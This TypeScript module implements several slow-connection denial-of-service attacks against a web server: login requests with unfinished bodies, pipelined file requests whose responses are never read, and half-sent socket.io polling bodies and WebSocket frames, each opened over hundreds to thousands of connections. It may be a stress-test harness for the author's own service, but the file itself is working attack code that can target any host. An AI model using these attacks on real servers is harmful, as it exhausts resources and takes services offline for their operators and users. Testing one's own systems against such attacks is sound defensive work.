import { randomBytes } from 'node:crypto';
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { text } from 'node:stream/consumers';

/** The target of an attack, and the source address on this machine. */
export interface Aim {
  host: string;
  port: number;
  from: string;
}

/** Opens one connection of the attack; a closed connection is opened again. */
type Attack = (aim: Aim) => Promise<Socket>;

const LARGE = 1_900_000;

function open({ host, port, from }: Aim): Socket {
  const socket = connect({ host, port, localAddress: from });
  // The attack goes on after any error.
  socket.on('error', () => {});
  return socket;
}

const requestHead = (first: string, ...headers: string[]) =>
  `${[first, 'Host: localhost', ...headers].join('\r\n')}\r\n\r\n`;

const unfinishedLogin: Attack = async (aim) => {
  const socket = open(aim).resume();
  const announced = ['Content-Type: application/json', 'Content-Length: 500'];
  socket.write(`${requestHead('POST /api/auth/login HTTP/1.1', ...announced)}{`);
  return socket;
};

/** Requests a file again and again without reading the answers. */
const unreadFile =
  (path: string, times: number): Attack =>
  async (aim) => {
    const socket = open(aim);
    socket.write(requestHead(`GET ${path} HTTP/1.1`, 'Accept-Encoding: identity').repeat(times));
    return socket;
  };

async function openPollingSession({ host, port, from }: Aim): Promise<string> {
  const path = '/socket.io/?EIO=4&transport=polling';
  const answer = await new Promise<string>((resolve, reject) => {
    request({ host, port, path, localAddress: from, agent: false }, (response) =>
      resolve(text(response)),
    )
      .on('error', reject)
      .end();
  });
  const [, sid = ''] = /"sid":"([^"]+)"/.exec(answer) ?? [];
  return sid;
}

const unfinishedPolling: Attack = async (aim) => {
  const sid = await openPollingSession(aim);
  const path = `/socket.io/?EIO=4&transport=polling&sid=${sid}`;
  const socket = open(aim).resume();
  const announced = ['Content-Type: text/plain', `Content-Length: ${LARGE}`];
  socket.write(requestHead(`POST ${path} HTTP/1.1`, ...announced));
  socket.write('4'.repeat(LARGE - 1));
  return socket;
};

const unfinishedFrame: Attack = async (aim) => {
  const socket = open(aim).resume();
  const key = `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`;
  const upgrade = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', key];
  socket.write(requestHead('GET /socket.io/?EIO=4&transport=websocket HTTP/1.1', ...upgrade));
  // The header of a WebSocket text frame of LARGE bytes, masked with zeros; the last byte is never sent.
  const start = Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  start.writeUInt32BE(LARGE, 6);
  socket.write(start);
  socket.write('4'.repeat(LARGE - 1));
  return socket;
};

const DOCS = '/api/docs/static/swagger-ui-bundle.js';
/** Pipelined requests on each connection: a hasty client might send that many. */
const SOME = 6;
/** Pipelined requests on each connection: far more than any client sends. */
const MANY = 30;

/** `asset` is a large file of the page. */
export const attacksWith = (asset: string) => ({
  unfinishedLogin: { connections: 2_000, attack: unfinishedLogin },
  unreadDocs: { connections: 2_000, attack: unreadFile(DOCS, SOME) },
  pipelinedDocs: { connections: 2_000, attack: unreadFile(DOCS, MANY) },
  unreadAsset: { connections: 2_000, attack: unreadFile(asset, SOME) },
  unfinishedPolling: { connections: 100, attack: unfinishedPolling },
  unfinishedFrame: { connections: 100, attack: unfinishedFrame },
});

export type AttackName = keyof ReturnType<typeof attacksWith>;
